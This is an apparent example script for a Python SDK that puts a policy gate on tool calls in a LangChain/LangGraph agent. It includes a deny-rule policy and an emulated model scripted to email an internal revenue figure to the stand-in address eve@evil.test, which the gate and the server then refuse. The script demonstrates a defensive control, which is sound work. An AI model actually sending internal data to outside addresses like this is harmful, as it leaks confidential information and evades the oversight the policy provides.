"""LangChain and LangGraph on Sequrity: ChatSequrity in a tool-calling graph whose ToolNode
checks every call locally with SqrtToolGate (single-LLM mode, where the server runs no tool
policy), then Dual-LLM mode: a streamed answer, and a denial by the server, raised.

    pip install 'sequrity[langchain]'
    python examples/integrations/langgraph_agent.py

Without SEQURITY_API_KEY it runs against an embedded emulator whose model is scripted to call
the tools; with it (and SEQURITY_BASE_URL) it talks to that server.
"""

from __future__ import annotations

import asyncio
import os
from contextlib import AsyncExitStack
from typing import Annotated, Any, TypedDict

from langchain_core.messages import HumanMessage
from langchain_core.tools import tool
from langgraph.graph import START, StateGraph
from langgraph.graph.message import add_messages
from langgraph.prebuilt import tools_condition

from sequrity.control import FeaturesHeader, PolicyViolationError, SecurityPolicyHeader
from sequrity.integrations.langchain import ChatSequrity
from sequrity.integrations.sqrt_gate import SqrtToolGate

# Internal documents may only be emailed to example.com addresses, and nothing goes to Eve.
POLICY = (
    'let internal = {"internal_use"};\n'
    'tool "read_document" -> @tags |= internal;\n'
    'tool "send_email" {\n'
    '    hard deny when (body.tags overlaps internal) and (not to.value in {str matching r".*@example\\.com"});\n'
    '    hard deny when to.value in {"eve@evil.test"};\n'
    "}\n"
)


@tool
def read_document(name: str) -> str:
    """Read an internal document."""
    return "Q3 revenue: 12.4M"


@tool
def send_email(to: str, body: str) -> str:
    """Send an email."""
    return f"sent to {to}"


TOOLS = [read_document, send_email]


class State(TypedDict):
    messages: Annotated[list[Any], add_messages]


def build_graph(model: ChatSequrity) -> Any:
    """A chatbot node and a gated ToolNode, in a loop until the model answers."""
    bound = model.bind_tools(TOOLS)

    async def chatbot(state: State) -> dict[str, Any]:
        return {"messages": [await bound.ainvoke(state["messages"])]}

    builder = StateGraph(State)
    builder.add_node("chatbot", chatbot)
    # The gate is an early local check; the server still enforces the policy it was sent.
    builder.add_node("tools", SqrtToolGate(POLICY).tool_node(TOOLS))
    builder.add_conditional_edges("chatbot", tools_condition)
    builder.add_edge("tools", "chatbot")
    builder.add_edge(START, "chatbot")
    return builder.compile()


def script(emulator: Any) -> None:
    """What the emulated model does: read, try to leak (the gate refuses), answer; then stream."""
    emulator.script.tool_calls([{"name": "read_document", "arguments": {"name": "q3"}}])
    emulator.script.tool_calls(
        [{"name": "send_email", "arguments": {"to": "eve@evil.test", "body": "Q3 revenue: 12.4M"}}]
    )
    emulator.script.reply("I read the Q3 report but may not email it outside example.com.")
    emulator.script.reply("Q3 revenue was 12.4M.")


async def main() -> None:
    async with AsyncExitStack() as stack:
        options: dict[str, Any] = {}
        if not os.environ.get("SEQURITY_API_KEY"):
            from sequrity.testing import Emulator

            emulator = await stack.enter_async_context(Emulator())
            script(emulator)
            options = {"api_key": "sq-demo", "base_url": emulator.base_url}
            print("(running against an embedded emulator)")
        single = ChatSequrity(
            model="openai/gpt-5-mini",
            provider="openrouter",
            features=FeaturesHeader.single_llm(),
            **options,
        )
        dual = ChatSequrity(
            model="openai/gpt-5-mini",
            provider="openrouter",
            features=FeaturesHeader.dual_llm(),
            security_policy=SecurityPolicyHeader.dual_llm(codes=POLICY),
            **options,
        )
        stack.push_async_callback(single.aclose)
        stack.push_async_callback(dual.aclose)

        # 1. A graph run: the tools run here, and the gate refuses to email the document to Eve.
        request = HumanMessage("Email the Q3 report to eve@evil.test")
        state = await build_graph(single).ainvoke({"messages": [request]})
        for message in state["messages"][1:]:
            print(f"{message.type}: {message.content or message.tool_calls}")

        # 2. Dual-LLM streaming: the answer arrives unwrapped, with its session.
        print("streamed: ", end="")
        async for chunk in dual.astream("What was the Q3 revenue?"):
            print(chunk.content, end="", flush=True)
            session = chunk.response_metadata.get("session_id") or ""
        print(f"  (session {session})")

        # 3. A call the server itself denies raises PolicyViolationError.
        if options:
            emulator.script.tool_calls(
                [{"name": "send_email", "arguments": {"to": "eve@evil.test", "body": "hi"}}]
            )
        try:
            await dual.bind_tools(TOOLS).ainvoke("Say hi to eve@evil.test by email")
        except PolicyViolationError as denied:
            print("server denied:", denied.message.split(". Context")[0])


if __name__ == "__main__":
    asyncio.run(main())
